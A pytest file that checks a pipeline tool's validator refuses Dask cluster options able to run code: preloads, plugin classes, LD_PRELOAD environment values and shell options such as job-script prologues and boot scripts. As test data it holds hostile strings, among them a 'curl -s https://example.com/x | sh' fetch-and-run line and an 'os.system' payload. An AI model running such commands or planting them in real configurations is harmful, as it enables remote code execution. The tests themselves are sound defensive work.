"""`executor.cluster.options` may not make Dask run or import code the config names (SPEC 10):
a preload, a class or plugin by dotted path, Dask's config or a process environment that
loads code, at any depth and in every spelling, YAML and TOML alike."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ProjectFactory

pytest.importorskip("distributed")

BASE = {"n_workers": 1, "processes": False, "dashboard_address": None}


def _yaml(options: dict[str, object], allow: list[str]) -> str:
    return (
        "name: pr_config\n"
        f"allow_imports: {json.dumps(allow)}\n"
        "results: {root: out}\n"
        "executor:\n"
        "  type: dask\n"
        "  shared_filesystem: true\n"
        "  cluster:\n"
        "    class: distributed.LocalCluster\n"
        "    scale: 1\n"
        f"    options: {json.dumps({**BASE, **options})}\n"
        "steps:\n"
        "  a: {run: csteps.one}\n"
    )


def _toml(options: dict[str, object], allow: list[str]) -> str:
    def value(item: object) -> str:
        if isinstance(item, dict):
            return "{" + ", ".join(f"{json.dumps(k)} = {value(v)}" for k, v in item.items()) + "}"
        if isinstance(item, list):
            return "[" + ", ".join(value(v) for v in item) + "]"
        if item is None:
            return '""'
        return json.dumps(item)

    merged = {**BASE, "dashboard_address": ":0", **options}
    return (
        'name = "pr_config"\n'
        f"allow_imports = {value(allow)}\n"
        '[results]\nroot = "out"\n'
        '[executor]\ntype = "dask"\nshared_filesystem = true\n'
        '[executor.cluster]\nclass = "distributed.LocalCluster"\nscale = 1\n'
        f"options = {value(merged)}\n"
        '[steps.a]\nrun = "csteps.one"\n'
    )


def _check(config: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pipeflow", "validate", str(config)],
        capture_output=True,
        text=True,
        timeout=120,
    )


SOURCE = "import os; os.system('touch PWNED')"
# (options, the document path the problem is reported at)
REFUSED = [
    ({"preload": [SOURCE]}, "executor.cluster.options.preload"),
    ({"preload": SOURCE}, "executor.cluster.options.preload"),
    ({"preload_argv": ["--x"], "preload": ["steps_setup"]}, "executor.cluster.options.preload"),
    ({"preload-argv": [["a"]]}, "executor.cluster.options.preload-argv"),
    ({"scheduler_kwargs": {"preload": [SOURCE]}}, "options.scheduler_kwargs.preload"),
    ({"worker_kwargs": {"preload": ["setup.py"]}}, "options.worker_kwargs.preload"),
    ({"worker_kwargs": {"preload_nanny": [SOURCE]}}, "options.worker_kwargs.preload_nanny"),
    ({"worker_class": "csteps.Evil"}, "executor.cluster.options.worker_class"),
    ({"worker_kwargs": {"plugins": ["csteps.plug"]}}, "options.worker_kwargs.plugins"),
    ({"scheduler_kwargs": {"extensions": {"x": "csteps.Ext"}}}, "scheduler_kwargs.extensions"),
    (
        {"worker_kwargs": {"config": {"distributed.worker.preload": [SOURCE]}}},
        "distributed.worker.preload",
    ),
    (
        {"worker_kwargs": {"config": {"distributed": {"scheduler": {"preload": [SOURCE]}}}}},
        "config.distributed.scheduler.preload",
    ),
    ({"worker_kwargs": {"env": {"LD_PRELOAD": "./evil.so"}}}, "worker_kwargs.env.LD_PRELOAD"),
    (
        {"worker_kwargs": {"env": {"DASK_DISTRIBUTED__WORKER__PRELOAD": SOURCE}}},
        "env.DASK_DISTRIBUTED__WORKER__PRELOAD",
    ),
    ({"worker_extra_args": ["--preload", SOURCE]}, "options.worker_extra_args[0]"),
    ({"worker_extra_args": ["--preload=evil"]}, "options.worker_extra_args[0]"),
]


@pytest.mark.parametrize("kind", ["yaml", "toml"])
@pytest.mark.parametrize(("options", "where"), REFUSED)
def test_an_option_that_runs_code_is_refused(
    make_project: ProjectFactory, kind: str, options: dict[str, object], where: str
) -> None:
    write = _yaml if kind == "yaml" else _toml
    config = make_project(
        write(options, []), name=f"pipeline.{kind}", csteps="def one():\n    return 1\n"
    )
    result = _check(config)
    assert result.returncode == 2, result.stdout + result.stderr
    assert where in result.stdout + result.stderr
    assert "makes" in result.stdout + result.stderr
    assert "hint: remove it" in result.stdout + result.stderr


def test_a_preload_named_by_allow_imports_and_plain_options_pass(
    make_project: ProjectFactory,
) -> None:
    options = {
        "preload": ["csteps"],
        "worker_class": "distributed.Worker",
        "scheduler_kwargs": {"dashboard": False},
        "worker_kwargs": {"env": {"OMP_NUM_THREADS": "1"}},
    }
    for kind, write in (("yaml", _yaml), ("toml", _toml)):
        config = make_project(
            write(options, ["csteps"]),
            name=f"pipeline.{kind}",
            csteps="def one():\n    return 1\n",
        )
        result = _check(config)
        assert result.returncode == 0, result.stdout + result.stderr


def test_a_run_refuses_before_dask_runs_the_preload(
    make_project: ProjectFactory, tmp_path: Path
) -> None:
    marker = tmp_path / "PWNED"
    source = f"import pathlib; pathlib.Path({str(marker)!r}).touch()"
    config = make_project(
        _yaml({"preload": [source], "scheduler_kwargs": {"preload": [source]}}, []),
        csteps="def one():\n    return 1\n",
    )
    result = subprocess.run(
        [sys.executable, "-m", "pipeflow", "run", str(config)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert "executor.cluster.options.preload" in result.stdout + result.stderr
    assert not marker.exists()


SHELL = "curl -s https://example.com/x | sh"
# Options whose text a cluster class runs as shell commands or as the program that starts a
# worker (dask-jobqueue's job script, an SSH or cloud cluster's remote command or boot script):
# refused whatever the class, at any depth, allow_imports or not.
SHELL_REFUSED = [
    ({"job_script_prologue": [SHELL]}, "executor.cluster.options.job_script_prologue"),
    ({"job-script-prologue": [SHELL]}, "executor.cluster.options.job-script-prologue"),
    ({"env_extra": ["module load x", SHELL]}, "executor.cluster.options.env_extra"),
    ({"python": f"{SHELL}; python3"}, "executor.cluster.options.python"),
    ({"shebang": "#!/bin/sh -c 'touch PWNED'"}, "executor.cluster.options.shebang"),
    ({"worker_command": "csteps"}, "executor.cluster.options.worker_command"),
    ({"submit_command_extra": ["--wrap", SHELL]}, "options.submit_command_extra"),
    ({"cancel_command_extra": ["; " + SHELL]}, "options.cancel_command_extra"),
    ({"remote_python": f"{SHELL}; python3"}, "executor.cluster.options.remote_python"),
    ({"worker_options": {"remote_python": SHELL}}, "options.worker_options.remote_python"),
    ({"extra_bootstrap": [SHELL]}, "executor.cluster.options.extra_bootstrap"),
    ({"user_data": f"#!/bin/sh\n{SHELL}"}, "executor.cluster.options.user_data"),
]
CLASSES = ["distributed.LocalCluster", "dask_jobqueue.SLURMCluster", "distributed.SSHCluster"]


@pytest.mark.parametrize("cluster_class", CLASSES)
@pytest.mark.parametrize("kind", ["yaml", "toml"])
@pytest.mark.parametrize(("options", "where"), SHELL_REFUSED)
def test_an_option_that_runs_shell_commands_is_refused(
    make_project: ProjectFactory,
    kind: str,
    options: dict[str, object],
    where: str,
    cluster_class: str,
) -> None:
    write = _yaml if kind == "yaml" else _toml
    text = write(options, ["csteps", "dask_jobqueue"]).replace(
        "distributed.LocalCluster", cluster_class
    )
    config = make_project(text, name=f"pipeline.{kind}", csteps="def one():\n    return 1\n")
    result = _check(config)
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert where in output
    assert "shell" in output
    assert "hint: remove it" in output
    assert "jobqueue" in output


def test_shell_options_left_empty_and_job_directives_pass(make_project: ProjectFactory) -> None:
    """What a SLURM user sets every day stays legal: directives, and empty shell options."""
    options = {
        "job_script_prologue": [],
        "python": None,
        "job_extra_directives": ["--account=lab", "--qos=high"],
        "env_extra": {"OMP_NUM_THREADS": "1"},
    }
    for kind, write in (("yaml", _yaml), ("toml", _toml)):
        config = make_project(
            write(options, []), name=f"pipeline.{kind}", csteps="def one():\n    return 1\n"
        )
        result = _check(config)
        assert result.returncode == 0, result.stdout + result.stderr
